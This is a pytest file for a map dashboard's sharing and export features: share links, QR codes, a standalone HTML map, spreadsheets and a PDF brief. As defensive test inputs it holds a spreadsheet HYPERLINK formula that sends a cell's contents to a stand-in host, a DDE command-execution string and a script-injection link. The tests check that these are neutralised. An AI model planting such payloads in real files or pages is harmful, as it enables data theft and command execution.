"""Share links, QR codes, the standalone map export, the brief and the spreadsheets."""

from __future__ import annotations

import base64
import html
import io
import re
import unicodedata
from urllib.parse import parse_qs, urlparse

import openpyxl
import pandas as pd
import pytest
import zxingcpp
from PIL import Image
from pypdf import PdfReader

from components.brief import brief_html, find_chromium, html_to_pdf
from components.data import layer_data
from components.export import PLACEHOLDER, enterprises_frame, indicators_frame, standalone_html, to_csv, to_excel
from components.map_view import MapLayer, build_map
from components.share import qr_data_uri, share_link, share_title
from components.tables import indicator_table
from geo.areas import areas_from_catalog
from geo.display import DisplayContext
from geo.state import ViewState

STATE = ViewState(
    area="jiangjin", layers=("districts", "stations"), basemap="osm", lang="en", center=(29.3, 106.25), zoom=9
)


def test_share_link_carries_page_and_full_state() -> None:
    link = share_link("http://meeting.local:8501/", "map", STATE)
    parts = urlparse(link)
    assert (parts.scheme, parts.netloc, parts.path) == ("http", "meeting.local:8501", "/map")
    assert parse_qs(parts.query) == {
        "area": ["jiangjin"], "layers": ["districts,stations"], "basemap": ["osm"], "lang": ["en"],
        "center": ["29.30000,106.25000"], "zoom": ["9"], "asof": ["2026"],
    }  # fmt: skip
    older = parse_qs(urlparse(share_link("http://h", "map", ViewState(asof=2023, circle_km=4.5))).query)
    assert older["asof"] == ["2023"] and older["circle_km"] == ["4.5"]
    assert share_link("http://h/app?x=1#frag", "map", ViewState()).startswith("http://h/app/map?")


def test_qr_code_decodes_to_the_link() -> None:
    link = share_link("http://127.0.0.1:8501", "map", STATE)
    uri = qr_data_uri(link)
    assert uri.startswith("data:image/png;base64,")
    png = base64.b64decode(uri.split(",", 1)[1], validate=True)
    decoded = zxingcpp.read_barcodes(Image.open(io.BytesIO(png)))
    assert [d.text for d in decoded] == [link]


def test_share_title_is_readable(catalog) -> None:
    assert share_title(STATE, catalog, "en") == (
        "Jiangjin District · 2026 divisions · District boundaries、Seismic early-warning stations · OpenStreetMap"
    )
    assert share_title(ViewState(), catalog, "zh").startswith("全市总览 · ")


def test_standalone_map_inlines_every_asset(catalog) -> None:
    topology = layer_data(ctx=DisplayContext(lang="zh", asof=2026), served=False)["areas"]
    layer = MapLayer("districts", "区县", {"topo": {"source": topology, "object": "districts"}}, "#4a5568")
    html = standalone_html(build_map([layer], attribution="x", static_url=PLACEHOLDER), "T")
    assert PLACEHOLDER not in html
    assert not re.findall(r"""<(?:script|link)[^>]+(?:src|href)=["']""", html)
    assert "L.map(" in html and "Leaflet" in html and "cqCoordReadout" in html
    assert "topojson" in html and '"liangjiang_district"' in html  # the decoder and the topology, inlined
    assert "<title>T</title>" in html


def test_spreadsheets_hold_the_area_rows(catalog) -> None:
    csv_text = to_csv(indicators_frame("jiangjin", catalog.indicators)).decode("utf-8-sig")
    frame = pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False)
    assert set(frame["area"]) == {"jiangjin"} and "【400】" in set(frame["target_text"])
    book = pd.read_excel(
        io.BytesIO(
            to_excel(
                {"indicators": indicators_frame("jiangjin", catalog.indicators),
                 "enterprises": enterprises_frame(("cq_gearbox",), catalog.enterprises)}
            )
        ),
        sheet_name=None,
    )  # fmt: skip
    assert list(book) == ["indicators", "enterprises"]
    assert "重庆齿轮箱" in set(book["enterprises"]["name_zh"])


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def test_no_exported_cell_is_a_formula_and_negative_numbers_stay_numbers(catalog) -> None:
    jiangjin = tuple(catalog.enterprises.index[catalog.enterprises["area"] == "jiangjin"])
    ents = enterprises_frame(jiangjin, catalog.enterprises).copy()
    ents.loc[0, "name_zh"], ents.loc[0, "role_zh"], ents.loc[1, "name_en"] = HYPERLINK, DDE, "@SUM(1+1)"
    inds = indicators_frame("jiangjin", catalog.indicators).copy()
    inds.loc[0, "name_zh"], inds.loc[0, "target_value"], inds.loc[1, "quote_zh"] = "+1+1", -5.0, "-2+3"
    book = openpyxl.load_workbook(io.BytesIO(to_excel({"indicators": inds, "enterprises": ents})))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert {"'" + HYPERLINK, "'" + DDE, "'@SUM(1+1)", "'+1+1", "'-2+3"} <= values
    target = book["indicators"].cell(row=2, column=list(inds.columns).index("target_value") + 1)
    assert target.value == -5 and target.data_type == "n"

    for frame, name in ((ents, HYPERLINK), (inds, "+1+1")):
        text = to_csv(frame).decode("utf-8-sig")
        read = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        assert not any(v.startswith(("=", "+", "-", "@")) and not v.lstrip("-").replace(".", "").isdigit()
                       for v in read.to_numpy().ravel())  # fmt: skip
        assert "'" + name in set(read.to_numpy().ravel())
    assert pd.read_csv(io.BytesIO(to_csv(inds)), encoding="utf-8-sig")["target_value"].iloc[0] == -5.0


def _brief(catalog, area: str = "jiangjin") -> str:
    targets = catalog.indicators[(catalog.indicators["area"] == area) & (catalog.indicators["status"] == "target")]
    return brief_html(
        area, catalog=catalog, areas=areas_from_catalog(catalog), facts={"计算面积": "3,215 km²"},
        targets=indicator_table(targets, catalog, "zh", None, short_source=True),
        enterprise_ids=tuple(catalog.enterprises.index[catalog.enterprises["area"] == area]), lang="zh",
    )  # fmt: skip


def test_brief_html_has_map_targets_enterprises_sources(catalog) -> None:
    html = _brief(catalog)
    assert "<h1>江津区</h1>" in html and "data:image/png;base64," in html
    assert "高新技术企业" in html and "≥【400】" in html and "专栏2 第7项" in html
    assert "重庆齿轮箱" in html and "江津区“十四五”科技创新发展规划" in html
    assert not re.findall(r"""(?:src|href)=["']https?://""", html)


def test_brief_pdf_is_one_page_with_the_targets(catalog) -> None:
    if find_chromium() is None:
        pytest.fail("Chromium is required for the PDF brief (./dev test installs it)")
    reader = PdfReader(io.BytesIO(html_to_pdf(_brief(catalog))))
    # PDF fonts map some glyphs to Kangxi radicals (⾯ for 面): NFKC folds them back
    text = unicodedata.normalize("NFKC", "".join(page.extract_text() for page in reader.pages))
    assert len(reader.pages) == 1
    for expected in ("江津区", "高新技术企业", "【400】", "2.8", "专栏2"):
        assert expected in text, expected


def test_copy_field_escapes_the_link_and_keeps_it_whole() -> None:
    from components.share import copy_link_html

    link = 'http://host/?area=a&x="><script>alert(`1`)</script>${x}\\'
    box = copy_link_html(link, "zh")
    value = re.search(r'<input readonly value="([^"]*)"', box).group(1)
    assert "<script>alert" not in value and "`" not in value and "${" not in value
    assert html.unescape(value) == link
    assert 'data-label="复制链接"' in box
